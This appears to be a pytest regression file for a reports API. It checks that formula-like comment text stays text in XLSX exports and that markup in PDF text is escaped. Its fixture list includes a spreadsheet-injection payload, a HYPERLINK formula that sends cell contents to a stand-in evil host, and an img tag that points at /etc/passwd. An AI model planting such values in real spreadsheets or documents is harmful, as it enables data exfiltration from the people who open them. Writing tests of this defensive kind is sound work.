"""Report text is text: XLSX cells that look like formulas stay text, PDF text is not markup."""

from __future__ import annotations

import io
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from api.reports import pdf, xlsx
from api.reports.content import Column, Headline, ReportContent, Section, Table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\uff1d1+1",
]
MARKUP = "<img src='/etc/passwd'/> & <b>bold</b>"


def content() -> ReportContent:
    table = Table(
        "comments",
        "Officer comments",
        (Column("comment"), Column("kg", "float")),
        [[text, -1.5] for text in [*HOSTILE, MARKUP]],
    )
    section = Section("Section <i>1</i>", headline=[Headline("plant", MARKUP)], tables=[table])
    return ReportContent("en", "Report " + MARKUP, "sub", "", [section], None)  # type: ignore[arg-type]


def test_xlsx_text_that_looks_like_a_formula_stays_text() -> None:
    """Failed before the fix: openpyxl stored the `=HYPERLINK(...)` comment as a live formula."""
    book = load_workbook(io.BytesIO(xlsx.render(content())))
    sheet = book["comments"]
    cells = [sheet.cell(row, 1) for row in range(3, 3 + len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE
    assert [(c.data_type, c.quotePrefix) for c in cells] == [("s", True)] * len(HOSTILE)
    numbers = [sheet.cell(row, 2) for row in range(3, 3 + len(HOSTILE))]
    assert {(c.value, c.data_type) for c in numbers} == {(-1.5, "n")}


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) missing")
def test_pdf_text_is_escaped_not_read_as_markup(tmp_path: Path) -> None:
    """Failed before the fix: reportlab read `<img src=...>` in a text as an image tag."""
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf.render(content()))
    text = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, check=True, text=True
    ).stdout
    assert "<img src='/etc/passwd'/> & <b>bold</b>" in text
    assert "Section <i>1</i>" in text
